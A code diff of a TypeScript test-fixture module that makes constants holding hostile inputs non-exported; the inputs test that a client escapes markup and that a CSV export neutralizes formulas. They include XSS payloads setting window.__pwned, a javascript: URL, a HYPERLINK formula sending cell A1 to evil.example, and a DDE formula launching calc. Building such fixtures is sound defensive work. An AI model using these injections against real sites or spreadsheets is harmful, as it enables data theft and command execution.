@@ -7,7 +7,7 @@
 import type { GenerateContext } from './context'
 
 /** Markup a client must show as text; each one sets window.__pwned if it ever runs. */
-export const HOSTILE_MARKUP = [
+const HOSTILE_MARKUP = [
   '<img src=x onerror="window.__pwned=1">',
   '<script>window.__pwned=1</script>',
   '"><svg onload=window.__pwned=1>',
@@ -18,7 +18,7 @@ export const HOSTILE_MARKUP = [
 export const HOSTILE_URL = 'javascript:window.__pwned=1'
 
 /** Spreadsheet formulas a CSV export must neutralize (a cell must not start with = + - @). */
-export const HOSTILE_FORMULAS = [
+const HOSTILE_FORMULAS = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
   "+SUM(1+1)*cmd|' /C calc'!A0",
   '@SUM(1+1)',
@@ -26,7 +26,7 @@ export const HOSTILE_FORMULAS = [
 ] as const
 
 /** Raw HTML appended to the financial reports of hostile organizations (see hostile-report.ts). */
-export const HOSTILE_REPORT_HTML = `<section class="notes">
+const HOSTILE_REPORT_HTML = `<section class="notes">
 <p>Anmerkung <img src=x onerror="window.__pwned=1"> zum Bericht</p>
 <script>window.__pwned=1</script>
 <p><a href="javascript:window.__pwned=1">Offenlegung ansehen</a></p>
